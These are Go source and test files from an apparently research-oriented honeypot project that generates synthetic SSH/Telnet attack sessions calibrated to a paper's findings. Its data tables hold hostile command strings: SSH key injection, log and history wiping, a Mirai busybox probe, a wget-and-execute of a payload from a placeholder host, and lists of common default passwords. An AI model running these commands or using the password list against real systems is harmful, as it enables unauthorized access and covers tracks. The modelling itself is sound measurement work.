	start := g.dayStart(rng, p.day)
	rec := &honeypot.SessionRecord{
		ID:         id,
		HoneypotID: p.pot,
		Protocol:   proto,
		ClientIP:   p.ip,
		ClientPort: 1024 + rng.Intn(60000),
		Start:      start,
	}
	if proto == honeypot.SSH {
		rec.ClientVersion = clientVersions[rng.Intn(len(clientVersions))]
	}
	var dur time.Duration
	switch c {
	case analysis.NoCred:
		dur, rec.Termination = noCredEnding(rng)
	case analysis.FailLog:
		rec.Logins = failedLogins(rng)
		if len(rec.Logins) >= 3 {
			rec.Termination = honeypot.TermAuthFailure
		} else {
			rec.Termination = honeypot.TermClient
		}
		dur = time.Duration((2 + rng.ExpFloat64()*8) * float64(time.Second))
		if dur > 59*time.Second {
			dur = 59 * time.Second
		}
	case analysis.NoCmd:
		rec.Logins = successfulLogin(rng)
		if rng.Float64() < 0.92 {
			// >90% of NO_CMD sessions end in the 3-minute timeout.
			rec.Termination = honeypot.TermTimeout
			dur = 180*time.Second + time.Duration(rng.Int63n(int64(6*time.Second)))
		} else {
			rec.Termination = honeypot.TermClient
			dur = time.Duration(10+rng.Intn(160)) * time.Second
		}
	case analysis.Cmd:
		rec.Logins = successfulLogin(rng)
		rec.Commands = genericCommands(rng)
		if len(p.hashes) > 0 {
			rec.Files = fileRecords(rng, p.hashes)
		}
		if rng.Float64() < 0.12 {
			rec.Termination = honeypot.TermTimeout
			dur = 180 * time.Second
		} else {
			rec.Termination = honeypot.TermExit
			dur = time.Duration((10 + rng.ExpFloat64()*30) * float64(time.Second))
			if dur > 178*time.Second {
				dur = 178 * time.Second
			}
		}
	case analysis.CmdURI:
		rec.Logins = successfulLogin(rng)
		rec.Commands = downloadCommands
		rec.URIs = []string{fmt.Sprintf("http://dl-%d.example/payload", rng.Intn(500))}
		rec.Files = fileRecords(rng, p.hashes)
		dur = time.Duration((30 + rng.ExpFloat64()*60) * float64(time.Second))
		if rng.Float64() < 0.15 {
			// URI retrieval resets the timeout: these sessions exceed the
			// 3-minute mark (Figure 7).
			dur = 180*time.Second + time.Duration(rng.ExpFloat64()*float64(120*time.Second))
		}
		rec.Termination = honeypot.TermExit
	}
	rec.End = start.Add(dur)
	return rec
}

// decorateCompanion builds the credential-guessing session an ephemeral
// scanner runs right after its port probe.
func (g *generator) decorateCompanion(rng *rand.Rand, p *planned, id uint64) *honeypot.SessionRecord {
	start := g.dayStart(rng, p.day)
	rec := &honeypot.SessionRecord{
		ID:            id,
		HoneypotID:    p.pot,
		Protocol:      honeypot.SSH,
		ClientIP:      p.ip,
		ClientPort:    1024 + rng.Intn(60000),
		Start:         start,
		ClientVersion: clientVersions[rng.Intn(len(clientVersions))],
		Logins:        failedLogins(rng),
		Termination:   honeypot.TermClient,
	}
	rec.End = start.Add(time.Duration(3+rng.Intn(25)) * time.Second)
	return rec
}

// fileRecords materializes planned file hashes as file records.
func fileRecords(rng *rand.Rand, hashes []string) []honeypot.FileRecord {
	out := make([]honeypot.FileRecord, len(hashes))
	for i, h := range hashes {
		out[i] = honeypot.FileRecord{
			Path: "/var/tmp/.x", Hash: h, Op: "create", Size: 64 + rng.Intn(4096),
		}
	}
	return out
}

// noCredEnding draws the duration/termination of a scan session:
// mostly client-closed within seconds, a fraction idling into the
// pre-auth timeout (Figure 7's first dashed line).
func noCredEnding(rng *rand.Rand) (time.Duration, honeypot.Termination) {
	if rng.Float64() < 0.15 {
		return 60 * time.Second, honeypot.TermTimeout
	}
	d := time.Duration((0.5 + rng.ExpFloat64()*4) * float64(time.Second))
	if d > 59*time.Second {
		d = 59 * time.Second
	}
	return d, honeypot.TermClient
}

var clientVersions = []string{
	"SSH-2.0-libssh2_1.8.0",
	"SSH-2.0-Go",
	"SSH-2.0-PUTTY",
	"SSH-2.0-libssh-0.6.3",
	"SSH-2.0-OpenSSH_7.3",
	"SSH-2.0-sshlib-0.1",
	"SSH-2.0-8.36 FlowSsh",
	"SSH-2.0-MGLNDD_22_SSH",
}

// Table 2: the ten most used successful passwords.
var topPasswords = []string{
	"admin", "1234", "3245gs5662d34", "dreambox", "vertex25ektks123",
	"12345", "h3c", "1qaz2wsx3edc", "passw0rd", "GM8182",
}

var extraPasswords = []string{
	"password", "123456", "default", "support", "system", "letmein",
	"qwerty", "abc123", "toor", "changeme", "raspberry", "ubnt",
}

// Most-attempted non-root usernames (Section 6).
var failUsers = []string{"nproc", "admin", "user", "test", "ubuntu", "oracle", "postgres", "git", "ftp", "guest"}

// successfulLogin draws the credential list of a logged-in session:
// possibly failed attempts first, then a success with a Table 2-shaped
// password (Zipf over the top list plus a random tail).
func successfulLogin(rng *rand.Rand) []honeypot.LoginAttempt {
	var out []honeypot.LoginAttempt
	for rng.Float64() < 0.25 && len(out) < 2 {
		out = append(out, honeypot.LoginAttempt{
			User: "root", Password: extraPasswords[rng.Intn(len(extraPasswords))],
		})
	}
	var pw string
	if rng.Float64() < 0.8 {
		// Zipf over the top-10 list.
		rank := int(math.Floor(10 * math.Pow(rng.Float64(), 2.2)))
		if rank > 9 {
			rank = 9
		}
		pw = topPasswords[rank]
	} else {
		pw = extraPasswords[rng.Intn(len(extraPasswords))]
	}
	return append(out, honeypot.LoginAttempt{User: "root", Password: pw, Success: true})
}

// failedLogins draws a FAIL_LOG session's attempts: wrong usernames or
// root:root, one to three tries.
func failedLogins(rng *rand.Rand) []honeypot.LoginAttempt {
	n := 1 + rng.Intn(3)
	out := make([]honeypot.LoginAttempt, 0, n)
	for i := 0; i < n; i++ {
		if rng.Float64() < 0.35 {
			out = append(out, honeypot.LoginAttempt{User: "root", Password: "root"})
		} else {
			out = append(out, honeypot.LoginAttempt{
				User:     failUsers[rng.Intn(len(failUsers))],
				Password: extraPasswords[rng.Intn(len(extraPasswords))],
			})
		}
	}
	return out
}

// Shared command templates (Table 3's population): recon, credential
// manipulation, key injection, script execution. Slices are shared
// across records; analyses only read them.
var (
	reconCommands = []honeypot.CommandRecord{
		{Input: "uname -a", Known: true},
		{Input: "cat /proc/cpuinfo", Known: true},
		{Input: "grep name", Known: true},
		{Input: "wc -l", Known: true},
		{Input: "free -m", Known: true},
	}
	reconShort = []honeypot.CommandRecord{
		{Input: "uname -s -v -n -r -m", Known: true},
		{Input: "w", Known: true},
	}
	credCommands = []honeypot.CommandRecord{
		{Input: "passwd root", Known: true},
		{Input: "chpasswd", Known: true},
	}
	keyInjectCommands = []honeypot.CommandRecord{
		{Input: "mkdir -p .ssh", Known: true},
		{Input: `echo "ssh-rsa AAAAB3NzaC1yc2E" >> .ssh/authorized_keys`, Known: true},
		{Input: "chmod 700 .ssh", Known: true},
	}
	historyWipe = []honeypot.CommandRecord{
		{Input: "export HISTFILE=/dev/null", Known: true},
		{Input: "history -c", Known: true},
		{Input: "rm -rf /var/log/wtmp", Known: true},
	}
	downloadCommands = []honeypot.CommandRecord{
		{Input: "cd /tmp", Known: true},
		{Input: "wget http://update.example/payload", Known: true},
		{Input: "chmod 777 payload", Known: true},
		{Input: "./payload", Known: false},
	}
	miraiProbe = []honeypot.CommandRecord{
		{Input: "enable", Known: true},
		{Input: "shell", Known: true},
		{Input: "sh", Known: true},
		{Input: "/bin/busybox ECCHI", Known: true},
	}
	genericTemplates = [][]honeypot.CommandRecord{
		reconCommands, reconShort, credCommands, keyInjectCommands, historyWipe, miraiProbe,
	}
)

func genericCommands(rng *rand.Rand) []honeypot.CommandRecord {
	// Weighted toward recon, matching Table 3's head.
	switch r := rng.Float64(); {
	case r < 0.40:
		return reconCommands
	case r < 0.60:
		return reconShort
	default:
		return genericTemplates[2+rng.Intn(len(genericTemplates)-2)]
	}
}
