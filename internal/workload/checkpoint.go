package workload

import (
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"path/filepath"
	"sync"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/faults"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/iofault"
	"honeyfarm/internal/wal"
)

// manifestName is the checkpoint manifest file within CheckpointDir.
const manifestName = "manifest.json"

// manifestFormat identifies the manifest schema.
const manifestFormat = "honeyfarm-manifest-v1"

// manifest is the durable description of a checkpointed generation run.
// The fingerprint pins every output-shaping configuration field, so a
// resume with a different seed, scale or fault plan is refused instead
// of silently splicing two incompatible datasets together.
type manifest struct {
	Format      string `json:"format"`
	Fingerprint string `json:"fingerprint"`
	// Seed and TotalSessions are echoed for human inspection; the
	// fingerprint is what resume validation trusts.
	Seed          int64 `json:"seed"`
	TotalSessions int   `json:"total_sessions"`
}

// fingerprint hashes the configuration fields that shape the generated
// bytes. Workers is deliberately excluded (a pure speed knob — the
// sharded pipeline is byte-identical at any worker count), as are the
// checkpoint fields themselves. The Registry is derived from Seed by
// every caller, so Seed covers it.
func fingerprint(cfg Config) (string, error) {
	shaped := struct {
		Seed             int64
		TotalSessions    int
		Days             int
		NumPots          int
		Epoch            time.Time
		Spikes           []Spike
		IPDivisor        float64
		MidTierCampaigns int
		DisableCampaigns bool
		Shares           *[analysis.NumCategories]float64
		SSHShares        *[analysis.NumCategories]float64
		Faults           *faults.Plan
	}{
		Seed:             cfg.Seed,
		TotalSessions:    cfg.TotalSessions,
		Days:             cfg.Days,
		NumPots:          cfg.NumPots,
		Epoch:            cfg.Epoch,
		Spikes:           cfg.Spikes,
		IPDivisor:        cfg.IPDivisor,
		MidTierCampaigns: cfg.MidTierCampaigns,
		DisableCampaigns: cfg.DisableCampaigns,
		Shares:           cfg.Shares,
		SSHShares:        cfg.SSHShares,
		Faults:           cfg.Faults,
	}
	b, err := json.Marshal(shaped)
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("%x", sha256.Sum256(b)), nil
}

// checkpoint is the open durable state of a generation run: the WAL the
// decoration workers append completed shards to, plus the shards
// recovered from a previous interrupted run.
type checkpoint struct {
	log *wal.Log
	// completed maps shard index -> that shard's surviving records, as
	// recovered from the WAL. Shards present here are not re-decorated.
	completed map[int][]*honeypot.SessionRecord

	mu  sync.Mutex
	err error // first append failure
}

// openCheckpoint prepares cfg.CheckpointDir. Must be called after the
// config's defaults are applied, so fresh and resumed runs fingerprint
// identically. Returns nil when checkpointing is disabled.
//
// Semantics: without Resume the directory must not already hold a
// manifest (refusing to clobber a previous run); with Resume a matching
// manifest continues the run — and a missing one simply starts a fresh
// checkpoint, so "resume" is always safe to pass.
func openCheckpoint(cfg Config) (*checkpoint, error) {
	if cfg.CheckpointDir == "" {
		if cfg.Resume {
			return nil, fmt.Errorf("Resume requires CheckpointDir")
		}
		return nil, nil
	}
	fsys := cfg.FS
	if fsys == nil {
		fsys = iofault.OS
	}
	if err := fsys.MkdirAll(cfg.CheckpointDir, 0o755); err != nil {
		return nil, err
	}
	fp, err := fingerprint(cfg)
	if err != nil {
		return nil, fmt.Errorf("fingerprinting config: %w", err)
	}
	mPath := filepath.Join(cfg.CheckpointDir, manifestName)
	raw, err := iofault.ReadFile(fsys, mPath)
	switch {
	case err == nil:
		if !cfg.Resume {
			return nil, fmt.Errorf("%s already holds a checkpoint; pass Resume to continue it or use a fresh directory", cfg.CheckpointDir)
		}
		var m manifest
		if uerr := json.Unmarshal(raw, &m); uerr != nil {
			return nil, fmt.Errorf("reading manifest: %w", uerr)
		}
		if m.Format != manifestFormat {
			return nil, fmt.Errorf("manifest has unknown format %q", m.Format)
		}
		if m.Fingerprint != fp {
			return nil, fmt.Errorf("checkpoint in %s was created by a different configuration (seed %d, %d sessions); refusing to resume", cfg.CheckpointDir, m.Seed, m.TotalSessions)
		}
	case errors.Is(err, fs.ErrNotExist):
		m, merr := json.Marshal(manifest{
			Format: manifestFormat, Fingerprint: fp,
			Seed: cfg.Seed, TotalSessions: cfg.TotalSessions,
		})
		if merr != nil {
			return nil, merr
		}
		if werr := atomicio.WriteFileBytesFS(fsys, mPath, append(m, '\n')); werr != nil {
			return nil, fmt.Errorf("writing manifest: %w", werr)
		}
	default:
		return nil, fmt.Errorf("reading manifest: %w", err)
	}

	log, rec, err := wal.Open(cfg.CheckpointDir, wal.Options{Epoch: cfg.Epoch, FS: fsys})
	if err != nil {
		return nil, err
	}
	ck := &checkpoint{log: log, completed: make(map[int][]*honeypot.SessionRecord)}
	for _, b := range rec.Batches {
		ck.completed[int(b.Tag)] = b.Records
	}
	return ck, nil
}

// shard returns the recovered records of a completed shard.
func (c *checkpoint) shard(i int) ([]*honeypot.SessionRecord, bool) {
	recs, ok := c.completed[i]
	return recs, ok
}

// append durably records a freshly decorated shard. Failures are
// sticky: the first error is kept and surfaced once decoration joins.
func (c *checkpoint) append(shard int, recs []*honeypot.SessionRecord) {
	if err := c.log.AppendTagged(uint64(shard), recs); err != nil {
		c.mu.Lock()
		if c.err == nil {
			c.err = err
		}
		c.mu.Unlock()
	}
}

// close syncs and closes the WAL, returning the first append error.
func (c *checkpoint) close() error {
	cerr := c.log.Close()
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.err != nil {
		return c.err
	}
	return cerr
}
