package workload

import (
	"math"
	"math/rand"
	"net/netip"
	"testing"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/stats"
)

func TestVisibilityWeightsShape(t *testing.T) {
	w := VisibilityWeights(221)
	if len(w) != 221 {
		t.Fatalf("len = %d", len(w))
	}
	min, max := w[0], w[0]
	for _, v := range w {
		min = math.Min(min, v)
		max = math.Max(max, v)
	}
	// The raw weight contrast overshoots the paper's 30× because session
	// routing (wide scanners, hash-pot bias) compresses the realized
	// ratio back toward it.
	if ratio := max / min; ratio < 30 || ratio > 60 {
		t.Errorf("max/min = %.1f, want 30–60 raw", ratio)
	}
	// Top-10 share ≈ 14%.
	var top, total float64
	for i, v := range w {
		if i < 10 {
			top += v
		}
		total += v
	}
	if share := top / total; share < 0.10 || share > 0.20 {
		t.Errorf("top-10 share = %.3f, want ≈0.14", share)
	}
	// Knee near rank 11.
	if k := stats.Knee(w); k < 5 || k > 25 {
		t.Errorf("knee = %d, want ≈11", k)
	}
	if VisibilityWeights(0) != nil {
		t.Error("n=0 should be nil")
	}
}

func TestPermutedPreservesMultiset(t *testing.T) {
	w := VisibilityWeights(50)
	p := Permuted(w, 7)
	sum, psum := 0.0, 0.0
	for i := range w {
		sum += w[i]
		psum += p[i]
	}
	if math.Abs(sum-psum) > 1e-9 {
		t.Error("permutation changed total mass")
	}
	q := Permuted(w, 8)
	same := true
	for i := range p {
		if p[i] != q[i] {
			same = false
		}
	}
	if same {
		t.Error("different seeds should permute differently")
	}
}

func TestSampler(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	s := NewSampler([]float64{1, 0, 3})
	counts := [3]int{}
	for i := 0; i < 40000; i++ {
		counts[s.Sample(rng)]++
	}
	if counts[1] != 0 {
		t.Errorf("zero-weight index sampled %d times", counts[1])
	}
	if ratio := float64(counts[2]) / float64(counts[0]); ratio < 2.7 || ratio > 3.3 {
		t.Errorf("3:1 weight ratio sampled at %.2f", ratio)
	}
}

func TestSamplerSampleK(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	s := NewSampler([]float64{1, 2, 3, 4, 5})
	got := s.SampleK(rng, 3)
	if len(got) != 3 {
		t.Fatalf("len = %d", len(got))
	}
	seen := map[int]bool{}
	for _, i := range got {
		if seen[i] {
			t.Error("duplicate index")
		}
		seen[i] = true
	}
	if got := s.SampleK(rng, 10); len(got) != 5 {
		t.Errorf("k>n should return all: %d", len(got))
	}
}

func TestFanoutDistribution(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	const n = 100000
	one, gt10, gtHalf := 0, 0, 0
	for i := 0; i < n; i++ {
		k := FanoutDistribution(rng, 221)
		if k < 1 || k > 221 {
			t.Fatalf("fanout %d out of range", k)
		}
		if k == 1 {
			one++
		}
		if k > 10 {
			gt10++
		}
		if k > 110 {
			gtHalf++
		}
	}
	// Raw targets (see FanoutDistribution doc): oversampled wide
	// scanners so the emergent population matches Figure 12.
	if f := float64(one) / n; f < 0.38 || f > 0.47 {
		t.Errorf("P(k=1) = %.3f, want ≈0.42", f)
	}
	if f := float64(gt10) / n; f < 0.28 || f > 0.42 {
		t.Errorf("P(k>10) = %.3f, want ≈0.35", f)
	}
	if f := float64(gtHalf) / n; f < 0.015 || f > 0.06 {
		t.Errorf("P(k>110) = %.3f, want ≈0.03", f)
	}
}

func TestLifespanDistribution(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	const n = 100000
	one, gt7 := 0, 0
	for i := 0; i < n; i++ {
		d := LifespanDistribution(rng, 486)
		if d < 1 || d > 486 {
			t.Fatalf("lifespan %d out of range", d)
		}
		if d == 1 {
			one++
		}
		if d > 7 {
			gt7++
		}
	}
	// Figure 13: >50% single-day; ≈20% of activity beyond a week. The
	// base distribution runs above the paper's per-IP value because
	// campaign bots and wide scanners (generated separately / forced
	// long-lived) skew the final population multi-day.
	if f := float64(one) / n; f < 0.65 || f > 0.80 {
		t.Errorf("P(1 day) = %.3f, want ≈0.72", f)
	}
	if f := float64(gt7) / n; f < 0.08 || f > 0.30 {
		t.Errorf("P(>7 days) = %.3f, want ≈0.10–0.20", f)
	}
}

func TestEnvelopeShapes(t *testing.T) {
	const days = PaperDays
	// Scanning ramps: day 10 well below day 200.
	if Envelope(analysis.NoCred, 10, days) > 0.5*Envelope(analysis.NoCred, 200, days) {
		t.Error("NO_CRED should ramp up after discovery")
	}
	// NO_CMD is high at both ends, low in the middle.
	mid := Envelope(analysis.NoCmd, days/2, days)
	if Envelope(analysis.NoCmd, 5, days) < 2*mid || Envelope(analysis.NoCmd, days-5, days) < 2*mid {
		t.Error("NO_CMD should peak at period start and end")
	}
	// CMD: high early, low around day 300, rising at the end.
	if Envelope(analysis.Cmd, 100, days) < Envelope(analysis.Cmd, 300, days) {
		t.Error("CMD should be higher in spring 2022 than autumn 2022")
	}
	if Envelope(analysis.Cmd, days-10, days) < Envelope(analysis.Cmd, 300, days) {
		t.Error("CMD should rise again in early 2023")
	}
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		for _, d := range []int{0, days / 2, days - 1} {
			if v := Envelope(c, d, days); v <= 0 || math.IsNaN(v) {
				t.Errorf("Envelope(%v, %d) = %v", c, d, v)
			}
		}
	}
}

// testDataset generates a small-but-real dataset shared by calibration
// tests (cached across tests in the package run).
var cachedResult *Result

func testDataset(t testing.TB) *Result {
	t.Helper()
	if cachedResult != nil {
		return cachedResult
	}
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	// Calibration targets are stated for the default scale (≈1/1000 of
	// the paper); below ~300k sessions the campaign session floors start
	// to distort the category and per-IP distributions.
	res, err := Generate(Config{
		Seed:          42,
		TotalSessions: 400_000,
		Registry:      reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	cachedResult = res
	return res
}

func TestGenerateTable1Calibration(t *testing.T) {
	res := testDataset(t)
	shares := analysis.ComputeCategoryShares(res.Store)
	if shares.Total < 350_000 || shares.Total > 470_000 {
		t.Fatalf("total sessions = %d, want ≈400k", shares.Total)
	}
	want := CategoryShare
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		got := shares.Overall[c]
		if math.Abs(got-want[c]) > 0.05 {
			t.Errorf("%v share = %.3f, want ≈%.3f", c, got, want[c])
		}
	}
	// Protocol split: SSH ≈ 75.8% overall; FAIL_LOG ≈ 99% SSH;
	// NO_CRED Telnet-dominated.
	if shares.SSHTotal < 0.70 || shares.SSHTotal > 0.82 {
		t.Errorf("SSH total = %.3f, want ≈0.758", shares.SSHTotal)
	}
	if shares.SSHShareOfCategory[analysis.FailLog] < 0.97 {
		t.Errorf("FAIL_LOG SSH share = %.3f, want ≈0.99", shares.SSHShareOfCategory[analysis.FailLog])
	}
	if shares.SSHShareOfCategory[analysis.NoCred] > 0.30 {
		t.Errorf("NO_CRED SSH share = %.3f, want ≈0.22", shares.SSHShareOfCategory[analysis.NoCred])
	}
}

func TestGenerateHoneypotPopularity(t *testing.T) {
	res := testDataset(t)
	per := analysis.ComputePerHoneypot(res.Store, 221)
	rank := analysis.SessionRank(per)
	if rank[0] <= 0 || rank[len(rank)-1] <= 0 {
		t.Fatal("every honeypot should see sessions")
	}
	ratio := rank[0] / rank[len(rank)-1]
	if ratio < 10 || ratio > 80 {
		t.Errorf("max/min sessions = %.1f, want ≈30", ratio)
	}
	share := stats.TopShare(rank, 10)
	if share < 0.08 || share > 0.25 {
		t.Errorf("top-10 share = %.3f, want ≈0.14", share)
	}
}

func TestGenerateTopsDiffer(t *testing.T) {
	// Key paper finding: the honeypots with the most hashes are not the
	// ones with the most sessions or clients.
	res := testDataset(t)
	per := analysis.ComputePerHoneypot(res.Store, 221)
	topSessions := analysis.TopPotsByActivity(per, 0.05)
	bySessSet := map[int]bool{}
	for _, id := range topSessions {
		bySessSet[id] = true
	}
	// Top by hashes.
	type kv struct{ id, hashes int }
	hs := make([]kv, len(per))
	for i, p := range per {
		hs[i] = kv{i, p.Hashes}
	}
	for i := 0; i < len(hs); i++ {
		for j := i + 1; j < len(hs); j++ {
			if hs[j].hashes > hs[i].hashes {
				hs[i], hs[j] = hs[j], hs[i]
			}
		}
	}
	overlap := 0
	for _, h := range hs[:len(topSessions)] {
		if bySessSet[h.id] {
			overlap++
		}
	}
	if overlap == len(topSessions) {
		t.Error("hash-top and session-top honeypots fully coincide; they should differ")
	}
}

func TestGenerateMultiCategoryClients(t *testing.T) {
	res := testDataset(t)
	clients := analysis.ComputeClientStats(res.Store, -1)
	if len(clients) < 1000 {
		t.Fatalf("clients = %d, too few", len(clients))
	}
	share := analysis.MultiCategoryShare(clients)
	if share < 0.25 || share > 0.65 {
		t.Errorf("multi-category share = %.3f, want ≈0.40", share)
	}
	// Figure 12: >40% of clients contact one honeypot.
	e := analysis.HoneypotsPerClientECDF(clients)
	if p1 := e.P(1); p1 < 0.30 || p1 > 0.60 {
		t.Errorf("P(1 honeypot) = %.3f, want ≈0.42", p1)
	}
	// Figure 13: most clients are single-day.
	days := analysis.ActiveDaysECDF(clients)
	if p1 := days.P(1); p1 < 0.40 || p1 > 0.75 {
		t.Errorf("P(1 day) = %.3f, want >0.5", p1)
	}
}

func TestGenerateCountryMix(t *testing.T) {
	res := testDataset(t)
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	cc := analysis.ClientCountries(res.Store, reg, nil)
	if len(cc) < 30 {
		t.Fatalf("countries = %d, too few", len(cc))
	}
	total := 0
	byCode := map[string]int{}
	for _, c := range cc {
		total += c.Clients
		byCode[c.Country] = c.Clients
	}
	cn := float64(byCode["CN"]) / float64(total)
	if cn < 0.20 || cn > 0.42 {
		t.Errorf("CN client share = %.3f, want ≈0.31", cn)
	}
	if cc[0].Country != "CN" {
		t.Errorf("top client country = %s, want CN", cc[0].Country)
	}
}

func TestGenerateHashLandscape(t *testing.T) {
	res := testDataset(t)
	hs := analysis.ComputeHashStats(res.Store, res.Tagger())
	if len(hs) < 1000 {
		t.Fatalf("unique hashes = %d, too few", len(hs))
	}
	vis := analysis.ComputeHashVisibility(hs, 221)
	if vis.Single < 0.45 {
		t.Errorf("single-honeypot hash share = %.3f, want >0.6-ish", vis.Single)
	}
	if vis.MoreThanHalf < 5 {
		t.Errorf("hashes at >half the farm = %d, want a few dozen", vis.MoreThanHalf)
	}
	// Table 4's head: H1 dominates by sessions.
	bySess := analysis.SortHashStats(hs, analysis.BySessions)
	if bySess[0].Tag != "trojan" {
		t.Errorf("top hash tag = %s, want trojan (H1)", bySess[0].Tag)
	}
	if bySess[0].Sessions < 5*bySess[1].Sessions {
		t.Errorf("H1 sessions (%d) should dominate #2 (%d) by ≈20×", bySess[0].Sessions, bySess[1].Sessions)
	}
	if bySess[0].Honeypots < 200 {
		t.Errorf("H1 honeypots = %d, want 221", bySess[0].Honeypots)
	}
	// Table 6: long-lived campaigns exist (H1 ≈ 484 active days).
	byDays := analysis.SortHashStats(hs, analysis.ByDays)
	if byDays[0].Days < 400 {
		t.Errorf("longest campaign = %d days, want ≈484", byDays[0].Days)
	}
	// The Mirai cluster: hashes pinned to 75–77 honeypots.
	cluster := 0
	for _, h := range hs {
		if h.Tag == "mirai" && h.Honeypots >= 70 && h.Honeypots <= 80 {
			cluster++
		}
	}
	if cluster < 5 {
		t.Errorf("mirai-cluster hashes = %d, want ≥5", cluster)
	}
}

func TestGenerateFreshness(t *testing.T) {
	res := testDataset(t)
	hf := analysis.ComputeHashFreshness(res.Store)
	if len(hf.UniqueHashes) < 400 {
		t.Fatalf("days = %d", len(hf.UniqueHashes))
	}
	// Paper: daily unique hashes from tens to thousands; fresh fraction
	// between 2% and 60%; 7-day fresh ≥ 30-day fresh ≥ all-time fresh.
	var sumFresh, sumDays float64
	for d := 100; d < len(hf.UniqueHashes); d++ { // skip warm-up
		if hf.UniqueHashes[d] == 0 {
			continue
		}
		if hf.Fresh7[d] < hf.Fresh30[d]-1e-9 || hf.Fresh30[d] < hf.FreshAll[d]-1e-9 {
			t.Fatalf("day %d: freshness ordering violated (7d %.2f, 30d %.2f, all %.2f)",
				d, hf.Fresh7[d], hf.Fresh30[d], hf.FreshAll[d])
		}
		sumFresh += hf.FreshAll[d]
		sumDays++
	}
	mean := sumFresh / sumDays
	if mean < 0.02 || mean > 0.60 {
		t.Errorf("mean all-time fresh fraction = %.3f, want within 2%%–60%%", mean)
	}
}

func TestGenerateTable2Passwords(t *testing.T) {
	res := testDataset(t)
	top := analysis.TopPasswords(res.Store, 10)
	if len(top) != 10 {
		t.Fatalf("top passwords = %d", len(top))
	}
	want := map[string]bool{}
	for _, p := range topPasswords {
		want[p] = true
	}
	hits := 0
	for _, p := range top {
		if want[p.Value] {
			hits++
		}
	}
	if hits < 7 {
		t.Errorf("only %d of top-10 passwords match Table 2's list: %+v", hits, top)
	}
}

func TestGenerateNoCmdPrefixWindows(t *testing.T) {
	// Section 6: "it is a single prefix that originates most of these
	// [NO_CMD] sessions, which is mainly active during these time
	// periods" (the start and end of the observation window), attributed
	// to a Russian datacenter. Measure the top-AS session share in the
	// early window vs the middle of the period.
	res := testDataset(t)
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	st := res.Store
	topASShare := func(lo, hi int) float64 {
		byAS := map[uint32]int{}
		total := 0
		for _, r := range st.Records() {
			if analysis.Classify(r) != analysis.NoCmd {
				continue
			}
			d := st.Day(r.Start)
			if d < lo || d >= hi {
				continue
			}
			a, err := netip.ParseAddr(r.ClientIP)
			if err != nil {
				continue
			}
			loc, ok := reg.LookupAddr(a)
			if !ok {
				continue
			}
			byAS[loc.ASN]++
			total++
		}
		best := 0
		for _, n := range byAS {
			if n > best {
				best = n
			}
		}
		if total == 0 {
			return 0
		}
		return float64(best) / float64(total)
	}
	early := topASShare(0, 60)
	mid := topASShare(150, 350)
	if early < 0.5 {
		t.Errorf("early-window top-AS share = %.2f, want ≥0.5 (single-prefix dominance)", early)
	}
	if mid > early/1.5 {
		t.Errorf("mid-window top-AS share = %.2f should be well below early %.2f", mid, early)
	}
}

func TestGenerateDeterministic(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	a, err := Generate(Config{Seed: 9, TotalSessions: 5000, Registry: reg, Days: 50})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Generate(Config{Seed: 9, TotalSessions: 5000, Registry: reg, Days: 50})
	if err != nil {
		t.Fatal(err)
	}
	ra, rb := a.Store.Records(), b.Store.Records()
	if len(ra) != len(rb) {
		t.Fatalf("lengths differ: %d vs %d", len(ra), len(rb))
	}
	for i := range ra {
		if ra[i].ClientIP != rb[i].ClientIP || ra[i].HoneypotID != rb[i].HoneypotID ||
			!ra[i].Start.Equal(rb[i].Start) {
			t.Fatalf("record %d differs", i)
		}
	}
}

func TestGenerateRequiresRegistry(t *testing.T) {
	if _, err := Generate(Config{}); err == nil {
		t.Fatal("Generate without registry should fail")
	}
}

func TestGenerateSmallFarm(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	res, err := Generate(Config{Seed: 5, TotalSessions: 3000, Days: 30, NumPots: 10, Registry: reg})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range res.Store.Records() {
		if r.HoneypotID < 0 || r.HoneypotID >= 10 {
			t.Fatalf("honeypot id %d out of range", r.HoneypotID)
		}
	}
}

func BenchmarkGenerate100k(b *testing.B) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Generate(Config{Seed: int64(i), TotalSessions: 100_000, Registry: reg}); err != nil {
			b.Fatal(err)
		}
	}
}

func TestGenerateCmdURILocality(t *testing.T) {
	// Figure 16(b): CMD+URI sessions show more geographic proximity
	// between client and honeypot than the overall population.
	res := testDataset(t)
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	outShare := func(cats map[analysis.Category]bool) float64 {
		rd := analysis.ComputeRegionalDiversity(res.Store, reg, res.Deployments, cats)
		return rd.MeanFractions()[analysis.OutOnly]
	}
	all := outShare(nil)
	uri := outShare(map[analysis.Category]bool{analysis.CmdURI: true})
	if all < 0.4 {
		t.Errorf("overall out-of-continent share = %.2f, want >0.5 (paper: most interactions cross continents)", all)
	}
	if uri >= all {
		t.Errorf("CMD+URI out-of-continent share %.2f should be below overall %.2f", uri, all)
	}
}

func TestDisableCampaignsAblation(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	base, err := Generate(Config{Seed: 8, TotalSessions: 60_000, Registry: reg})
	if err != nil {
		t.Fatal(err)
	}
	bare, err := Generate(Config{Seed: 8, TotalSessions: 60_000, Registry: reg, DisableCampaigns: true})
	if err != nil {
		t.Fatal(err)
	}
	hsBase := analysis.ComputeHashStats(base.Store, nil)
	hsBare := analysis.ComputeHashStats(bare.Store, nil)
	// Without campaigns there are no long-lived hashes.
